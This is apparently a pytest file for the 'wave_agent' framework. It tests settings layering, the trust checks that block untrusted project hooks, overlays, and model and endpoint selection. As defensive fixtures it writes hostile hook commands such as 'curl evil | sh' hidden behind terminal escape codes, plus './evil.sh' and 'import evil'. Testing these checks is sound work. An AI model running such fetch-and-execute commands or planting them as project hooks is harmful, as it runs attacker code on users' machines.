"""What an agent is put together from: the settings that count, whom to trust, a mode, a model."""

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from wave_agent.agent.agent import Agent
from wave_agent.agent.foundation import limit_for, mode_for
from wave_agent.agent.model_choice import ModelWishes, model_for
from wave_agent.agent.one_shot import run
from wave_agent.agent.options import find_places
from wave_agent.errors import ModelError, SettingsError, UntrustedHooksError
from wave_agent.hooks.definitions import HookDefinition, Layer
from wave_agent.models.base import ModelRequest
from wave_agent.models.scripted import ScriptedModel
from wave_agent.permissions.decision import PermissionMode, Rules
from wave_agent.rules.rule import parse_rule
from wave_agent.settings.hook_entries import SettingsSource
from wave_agent.settings.layers import Settings, merge_settings
from wave_agent.settings.sources import Overlay, SourceChoice, Trust, gather_settings
from wave_agent.system.project import Project as Place


class Project:
    """A home and a project with settings files in them."""

    def __init__(self, directory: Path) -> None:
        self.home, self.directory = directory / "home", directory / "project"
        self.home.mkdir()
        self.directory.mkdir()

    def write(self, layer: str, content: object) -> Path:
        file = {
            "user": self.home / "settings.json",
            "project": self.directory / ".wave" / "settings.json",
            "local": self.directory / ".wave" / "settings.local.json",
        }[layer]
        file.parent.mkdir(exist_ok=True)
        file.write_text(json.dumps(content, indent=1))
        return file

    def gather(
        self,
        *,
        layers: Sequence[str] | None = ("user", "project", "local"),
        overlays: Sequence[Overlay] = (),
        hooks: Mapping[str, Any] | None = None,
        trust: Trust = False,
        project_hooks: bool = True,
    ) -> tuple[list[SettingsSource], list[str]]:
        choice = SourceChoice(
            setting_sources=layers, overlays=overlays, hooks=hooks, trust=trust, project_hooks=project_hooks
        )
        gathered = gather_settings(self.home, Place.at(str(self.directory)), choice)
        return [*gathered.sources], [*gathered.notices]

    def settings(self, **options: Any) -> Settings:
        return merge_settings(self.gather(**options)[0])


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path)


def hooks(command: str = "./guard.sh", **more: Any) -> dict[str, Any]:
    return {"PreToolUse": [{"matcher": "Bash", "hooks": [{"command": command, **more}]}]}


# ---------------------------------------------------------------------------------------------------------------- trust


@pytest.mark.parametrize("layer", ["project", "local"])
def test_hooks_of_a_project_that_nobody_trusts_are_neither_run_nor_skipped(project: Project, layer: str) -> None:
    file = project.write(layer, {"hooks": hooks("./evil.sh --now")})
    with pytest.raises(UntrustedHooksError) as told:
        project.gather()
    assert told.value.hooks == (f"PreToolUse: ./evil.sh --now ({file}:7): not trusted yet",)
    assert told.value.hooks[0] in str(told.value)
    assert "trust" in str(told.value)


def test_every_untrusted_hook_of_both_files_is_listed(project: Project) -> None:
    project.write("project", {"hooks": {**hooks("./one.sh"), "Stop": [{"hooks": [{"command": "./two.sh"}]}]}})
    project.write("local", {"hooks": hooks("./three.sh")})
    with pytest.raises(UntrustedHooksError) as told:
        project.gather()
    assert [hook.split(" (")[0] for hook in told.value.hooks] == [
        *("PreToolUse: ./one.sh", "Stop: ./two.sh", "PreToolUse: ./three.sh")
    ]


def test_the_list_shows_all_that_would_be_run(project: Project) -> None:
    project.write("project", {"hooks": hooks("python3", args=["-c", "import evil"])})
    with pytest.raises(UntrustedHooksError, match="import evil"):
        project.gather()


def test_the_list_cannot_be_forged_with_terminal_escapes(project: Project) -> None:
    project.write("project", {"hooks": hooks("curl evil | sh #\x1b[2K\x1b[1A\u202e")})
    with pytest.raises(UntrustedHooksError) as told:
        project.gather()
    assert "curl evil | sh" in str(told.value)
    assert "\x1b" not in str(told.value)
    assert "\u202e" not in str(told.value)


def test_a_trusted_project_counts_whole(project: Project) -> None:
    project.write("project", {"hooks": hooks(), "model": "p", "permissions": {"allow": ["Bash"]}})
    sources, notices = project.gather(trust=True)
    found = merge_settings(sources)
    assert notices == []
    assert (found.model, len(found.hooks.hooks), found.rules.allow) == ("p", 1, (parse_rule("Bash"),))


def test_a_function_decides_and_sees_every_hook(project: Project) -> None:
    project.write("project", {"hooks": hooks("./one.sh"), "model": "p"})
    project.write("local", {"hooks": hooks("./two.sh")})
    project.write("user", {"hooks": hooks("./mine.sh")})
    asked: list[Sequence[HookDefinition]] = []

    def trust(found: Sequence[HookDefinition]) -> bool:
        asked.append(found)
        return True

    assert project.settings(trust=trust).model == "p"
    assert [hook.command for hook in asked[0]] == ["./one.sh", "./two.sh"]
    assert len(asked) == 1


def test_a_function_that_refuses_is_heard(project: Project) -> None:
    project.write("project", {"hooks": hooks()})
    with pytest.raises(UntrustedHooksError):
        project.gather(trust=lambda _: False)


@pytest.mark.parametrize("trust", [False, lambda _: True], ids=["False", "function"])
def test_a_project_without_hooks_is_not_asked_about_and_may_only_restrict(project: Project, trust: Trust) -> None:
    file = project.write("project", {"model": "p", "env": {"A": "b"}, "permissions": {"deny": ["Bash"]}})
    project.write("local", {"permissions": {"ask": ["Edit"]}})
    sources, notices = project.gather(trust=trust)
    assert merge_settings(sources) == Settings(rules=Rules(deny=(parse_rule("Bash"),), ask=(parse_rule("Edit"),)))
    assert notices == [f"{file}: not trusted, so ignored: model, env (wave hooks trust)"]


def test_what_no_project_can_set_is_not_said_to_need_trust(project: Project) -> None:
    settings = {"model": "p", "telemetry": {"endpoint": "http://localhost:1"}, "sessions": {"identity": True}}
    file = project.write("project", {**settings, "allowManagedHooksOnly": True})
    assert project.gather(trust=False)[1] == [
        f"{file}: not trusted, so ignored: model, sessions (wave hooks trust)",
        f"{file}: ignored: telemetry: only user settings and managed settings can set this",
        f"{file}: ignored: allowManagedHooksOnly: only managed settings can set this",
    ]


def test_a_misspelt_key_of_an_untrusted_project_is_reported_as_what_it_is(project: Project) -> None:
    file = project.write("project", {"model": "p", "hoks": hooks(), "permissions": {"deni": ["Bash"], "allow": []}})
    sources, notices = project.gather(trust=False)
    assert notices == [f"{file}: not trusted, so ignored: model, permissions.allow (wave hooks trust)"]
    assert [issue.message for issue in merge_settings(sources).issues] == [
        'unknown setting "hoks" (did you mean "hooks"?)',
        'unknown setting "deni" (did you mean "deny"?)',
    ]


def test_the_users_own_settings_need_no_trust(project: Project) -> None:
    project.write("user", {"hooks": hooks(), "model": "u"})
    sources, notices = project.gather()
    assert (merge_settings(sources).model, notices) == ("u", [])


def test_a_broken_file_is_told_before_anybody_is_asked_for_trust(project: Project) -> None:
    file = project.write("project", {})
    file.write_text("{")
    with pytest.raises(SettingsError, match="not valid JSON"):
        project.gather()


@pytest.mark.parametrize("trust", [True, False])
def test_a_project_whose_hooks_are_left_out_is_not_asked_about(project: Project, trust: bool) -> None:
    project.write("user", {"hooks": hooks("./mine.sh")})
    project.write("project", {"hooks": hooks("./evil.sh"), "permissions": {"deny": ["Bash"]}})
    project.write("local", {"hooks": hooks("./evil.sh"), "permissions": {"ask": ["Edit"]}})
    found = project.settings(project_hooks=False, trust=trust)
    assert [hook.command for hook in found.hooks.hooks] == ["./mine.sh"]
    assert found.rules == Rules(deny=(parse_rule("Bash"),), ask=(parse_rule("Edit"),))


# -------------------------------------------------------------------------------------------------------------- sources


def test_only_the_sources_that_are_wanted_are_read(project: Project) -> None:
    project.write("user", {"model": "u"})
    project.write("project", {"hooks": hooks()})
    assert [source.layer for source in project.gather(layers=["user"])[0]] == [Layer.USER]
    assert project.gather(layers=[]) == ([], [])


def test_by_default_every_file_is_read(project: Project) -> None:
    for layer in ("user", "project", "local"):
        project.write(layer, {"model": layer})
    found = [source.layer for source in project.gather(layers=None, trust=True)[0]]
    assert [layer for layer in found if layer is not Layer.MANAGED] == [Layer.USER, Layer.PROJECT, Layer.LOCAL]


@pytest.mark.parametrize("name", ["usr", "flag", "code", ""])
def test_an_unknown_source_is_an_error_that_lists_the_known_ones(project: Project, name: str) -> None:
    with pytest.raises(SettingsError, match=f'"{name}" is not a settings source; .*managed, user, project, local'):
        project.gather(layers=["user", name])


def test_an_overlay_may_be_a_file(project: Project, tmp_path: Path) -> None:
    project.write("user", {"model": "u"})
    file = tmp_path / "mine.json"
    file.write_text('{"model": "f", "hooks": {"Stop": [{"hooks": [{"command": "true"}]}]}}')
    for given in (file, str(file)):
        found = project.settings(overlays=[given])
        assert found.model == "f"
        assert [(hook.layer, hook.source) for hook in found.hooks.hooks] == [(Layer.FLAG, str(file))]


def test_an_overlay_may_be_an_object(project: Project) -> None:
    project.write("user", {"model": "u"})
    found = project.settings(overlays=[{"model": "o", "modell": 1}])
    assert found.model == "o"
    assert [str(issue) for issue in found.issues] == [
        'settings: modell: unknown setting "modell" (did you mean "model"?)'
    ]


def test_an_overlay_that_is_not_there_is_an_error_with_its_name(project: Project, tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match=r"Settings file not found: .*mine\.json"):
        project.gather(overlays=[tmp_path / "mine.json"])
    with pytest.raises(SettingsError, match="cannot be read"):
        project.gather(overlays=[tmp_path])


def test_of_several_overlays_all_count_and_the_last_wins(project: Project, tmp_path: Path) -> None:
    file = tmp_path / "mine.json"
    file.write_text('{"model": "f", "baseUrl": "http://f"}')
    found = project.settings(overlays=[file, {"model": "o"}])
    assert (found.model, found.base_url) == ("o", "http://f")


def test_hooks_in_code_are_a_layer_of_their_own(project: Project) -> None:
    def guard(call: Any) -> None:
        """A hook function."""

    project.write("user", {"hooks": hooks("./mine.sh")})
    found = project.settings(hooks={"PreToolUse": [{"hooks": [guard]}]})
    assert [hook.layer for hook in found.hooks.hooks] == [Layer.CODE, Layer.USER]


# --------------------------------------------------------------------------------------------------------------- places


def test_the_project_is_a_real_path_and_the_home_an_absolute_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    assert find_places(tmp_path / "link", {"WAVE_HOME": "/srv/wave"}) == (str(tmp_path / "real"), Path("/srv/wave"))
    monkeypatch.chdir(tmp_path / "real")
    assert find_places(None, {"WAVE_HOME": "here"}) == (str(tmp_path / "real"), tmp_path / "real" / "here")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert find_places(None, {"WAVE_HOME": ""})[1] == find_places(None, {})[1] == tmp_path / ".wave"


def test_a_project_that_is_not_there_is_an_error_with_its_path(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match=f"no directory {tmp_path}/gone"):
        find_places(tmp_path / "gone", {})
    (tmp_path / "file").touch()
    with pytest.raises(SettingsError, match=f"no directory {tmp_path}/file"):
        find_places(tmp_path / "file", {})


# ------------------------------------------------------------------------------------------------------- mode and model


@pytest.mark.parametrize("mode", PermissionMode)
def test_the_mode_that_is_asked_for_wins_over_the_settings(mode: PermissionMode) -> None:
    assert mode_for(mode.value, Settings(default_mode=PermissionMode.PLAN)) == (mode, ())
    assert mode_for(None, Settings(default_mode=mode)) == (mode, ())


@pytest.mark.parametrize("asked", ["Plan", "", "yolo"])
def test_an_unknown_mode_is_an_error_that_lists_the_known_ones(asked: str) -> None:
    with pytest.raises(
        SettingsError, match=f'"{asked}" is not a permission mode; expected one of default, acceptEdits, plan'
    ):
        mode_for(asked, Settings())


def test_a_limit_of_requests_is_at_least_one() -> None:
    assert (limit_for(None), limit_for(1), limit_for(50)) == (None, 1, 50)
    for asked in (0, -1):
        with pytest.raises(SettingsError, match=f"max_turns must be at least 1, not {asked}"):
            limit_for(asked)


async def test_without_an_endpoint_the_first_request_says_what_to_set() -> None:
    model = model_for(ModelWishes(), Settings(model="m"), {"PATH": "/bin"})
    with pytest.raises(ModelError, match=r"WAVE_BASE_URL.*WAVE_API_KEY"):
        async for _ in model.stream(ModelRequest(model="m", messages=[])):
            pass
    await model.close()


@pytest.mark.parametrize(
    ("argument", "settings", "environment", "address"),
    [
        ("http://a", "http://s", {"WAVE_BASE_URL": "http://w", "OPENAI_BASE_URL": "http://o"}, "http://a"),
        (None, "http://s", {"WAVE_BASE_URL": "http://w", "OPENAI_BASE_URL": "http://o"}, "http://w"),
        (None, "http://s", {"OPENAI_BASE_URL": "http://o"}, "http://o"),
        (None, "http://s", {"WAVE_BASE_URL": ""}, "http://s"),
        (None, None, {"WAVE_API_KEY": "k"}, "https://api.openai.com/v1"),
    ],
)
async def test_the_endpoint_is_the_argument_then_the_environment_then_the_settings(
    argument: str | None, settings: str | None, environment: dict[str, str], address: str
) -> None:
    model = model_for(ModelWishes(base_url=argument), Settings(base_url=settings), environment)
    await model.close()
    assert repr(model).startswith(f"OpenAIChatModel(base_url='{address}")


async def test_settings_of_a_model_that_are_no_object_do_not_break_the_agent(project: Project) -> None:
    broken = {"model": "m", "models": {"m": 5}}
    async with await Agent.create(
        workdir=project.directory, setting_sources=[], settings=broken, model_client=ScriptedModel(["hello"])
    ) as agent:
        assert agent.messages == []


def test_the_one_liner_runs_a_prompt_and_closes_what_it_made(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("WAVE_HOME", str(project.home))
    model = ScriptedModel(["hello"])
    result = run("hi", workdir=project.directory, model_client=model)
    assert (result.status, result.text, model.closed) == ("completed", "hello", True)


async def test_inside_an_event_loop_the_one_liner_says_what_to_do_instead(project: Project) -> None:
    with pytest.raises(RuntimeError, match=r"await Agent\.create"):
        run("hi", workdir=project.directory, model_client=ScriptedModel([]))
